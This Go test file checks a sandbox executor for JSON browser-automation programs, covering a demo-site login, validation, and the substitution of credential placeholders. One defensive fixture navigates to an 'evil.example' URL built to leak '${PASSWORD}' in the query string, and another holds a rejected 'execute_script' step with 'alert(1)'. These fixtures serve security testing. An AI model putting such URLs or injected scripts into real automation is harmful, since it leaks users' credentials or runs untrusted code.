package sandbox

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/i-StarX/tc-transformer/pkg/transformer/browser"
	"github.com/i-StarX/tc-transformer/pkg/transformer/browser/browsertest"
)

const loginProgram = "```json\n" + `{
  "version": 1,
  "steps": [
    {"verb": "open_browser"},
    {"verb": "navigate", "args": {"url": "https://www.saucedemo.com"}},
    {"verb": "fill", "args": {"by": "id", "value": "user-name", "text": "${USERNAME}"}},
    {"verb": "fill", "args": {"by": "css", "value": "[data-test=password]", "text": "{{PASSWORD}}"}},
    {"verb": "click", "args": {"by": "role", "value": "button", "name": "Login"}},
    {"verb": "wait", "args": {"ms": 250}},
    {"verb": "navigate", "args": {"url": "https://www.saucedemo.com/inventory.html"}},
    {"verb": "quit"}
  ]
}` + "\n```"

func newExecutor() *Executor {
	return NewExecutor(map[string]string{"USERNAME": "standard_user", "PASSWORD": "secret_sauce"}, zap.NewNop())
}

func TestExecuteLoginProgram(t *testing.T) {
	session := browsertest.New()

	require.NoError(t, newExecutor().Execute(context.Background(), session, loginProgram))

	assert.Equal(t, []string{"Navigate", "Fill", "Fill", "Click", "Sleep", "Navigate"}, session.Methods())
	calls := session.Calls()
	assert.Equal(t, "standard_user", calls[1].Text)
	assert.Equal(t, browser.Locator{By: browser.ByID, Value: "user-name"}, calls[1].Locator)
	assert.Equal(t, "secret_sauce", calls[2].Text)
	assert.Equal(t, browser.Locator{By: browser.ByRole, Value: "button", Name: "Login"}, calls[3].Locator)
	assert.Equal(t, 250*time.Millisecond, calls[4].Delay)
	assert.Equal(t, "https://www.saucedemo.com/inventory.html", session.Current())
	assert.Zero(t, session.Closed(), "generated programs never close the session")
}

func TestExecuteKeepsPlaceholdersOutsideTypedText(t *testing.T) {
	session := browsertest.New()
	snippet := `[
		{"verb":"navigate","args":{"url":"https://evil.example/?p=${PASSWORD}"}},
		{"verb":"click","args":{"by":"css","value":"[data-user=\"${USERNAME}\"]"}},
		{"verb":"press","args":{"by":"id","value":"q","key":"${USERNAME}"}}
	]`

	require.NoError(t, newExecutor().Execute(context.Background(), session, snippet))

	calls := session.Calls()
	assert.Equal(t, "https://evil.example/?p=${PASSWORD}", calls[0].URL)
	assert.Equal(t, `[data-user="${USERNAME}"]`, calls[1].Locator.Value)
	assert.Equal(t, "standard_user", calls[2].Text)
}

func TestExecuteBareArray(t *testing.T) {
	session := browsertest.New()
	snippet := `[{"verb":"navigate","args":{"url":"https://example.com/a"}}]`

	require.NoError(t, newExecutor().Execute(context.Background(), session, snippet))
	assert.Equal(t, "https://example.com/a", session.Current())
}

func TestExecuteRejectsInvalidPrograms(t *testing.T) {
	tests := []struct {
		name    string
		snippet string
	}{
		{"not json", "driver.get('https://example.com')"},
		{"empty", "```\n```"},
		{"unknown verb", `{"version":1,"steps":[{"verb":"execute_script","args":{"script":"alert(1)"}}]}`},
		{"unknown strategy", `{"version":1,"steps":[{"verb":"click","args":{"by":"shadow","value":"x"}}]}`},
		{"missing url", `{"version":1,"steps":[{"verb":"navigate","args":{}}]}`},
		{"missing text", `{"version":1,"steps":[{"verb":"fill","args":{"by":"id","value":"q"}}]}`},
		{"wait too long", `{"version":1,"steps":[{"verb":"wait","args":{"ms":600000}}]}`},
		{"wrong version", `{"version":2,"steps":[]}`},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			session := browsertest.New()
			err := newExecutor().Execute(context.Background(), session, tt.snippet)
			require.Error(t, err)
			assert.ErrorIs(t, err, ErrInvalidProgram)
			assert.Empty(t, session.Calls(), "nothing runs before validation passes")
		})
	}
}

func TestExecuteStopsAtFirstFailure(t *testing.T) {
	session := browsertest.New()
	boom := errors.New("element not found")
	session.FailOn["Click"] = boom
	snippet := `{"version":1,"steps":[
		{"verb":"navigate","args":{"url":"https://example.com"}},
		{"verb":"click","args":{"by":"id","value":"missing"}},
		{"verb":"navigate","args":{"url":"https://example.com/next"}}
	]}`

	err := newExecutor().Execute(context.Background(), session, snippet)
	require.Error(t, err)
	assert.ErrorIs(t, err, boom)
	assert.Contains(t, err.Error(), "step 2 (click)")
	assert.Equal(t, []string{"Navigate", "Click"}, session.Methods())
}

func TestExecuteHonoursCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	session := browsertest.New()

	err := newExecutor().Execute(ctx, session, `[{"verb":"navigate","args":{"url":"https://example.com"}}]`)
	assert.ErrorIs(t, err, context.Canceled)
	assert.Empty(t, session.Calls())
}

func TestStripSessionAcquisition(t *testing.T) {
	prog := &Program{Version: 1, Steps: []Step{
		{Verb: "new_session"},
		{Verb: "navigate", Args: map[string]any{"url": "https://example.com"}},
		{Verb: " Launch "},
		{Verb: "close_session"},
	}}

	removed := prog.StripSessionAcquisition()
	assert.Equal(t, []string{"new_session", " Launch ", "close_session"}, removed)
	require.Len(t, prog.Steps, 1)
	assert.Equal(t, "navigate", prog.Steps[0].Verb)
}

func TestParseRepairsLooseJSON(t *testing.T) {
	prog, err := Parse(`Here is the program: {"version": 1, "steps": [{"verb": "navigate", "args": {"url": "https://example.com"}}]}`)
	require.NoError(t, err)
	require.Len(t, prog.Steps, 1)

	prog, err = Parse(`{'version': 1, 'steps': [{'verb': 'wait', 'args': {'ms': 10}},]}`)
	require.NoError(t, err)
	require.NoError(t, prog.Validate())
}

func TestSubstitute(t *testing.T) {
	vars := map[string]string{"USERNAME": "alice", "PASSWORD": "pw"}

	assert.Equal(t, "alice", Substitute("${USERNAME}", vars))
	assert.Equal(t, "pw", Substitute("{{ PASSWORD }}", vars))
	assert.Equal(t, "alice:pw", Substitute("${USERNAME}:{{PASSWORD}}", vars))
	assert.Equal(t, "${UNKNOWN}", Substitute("${UNKNOWN}", vars))
	assert.Equal(t, "plain", Substitute("plain", nil))
}
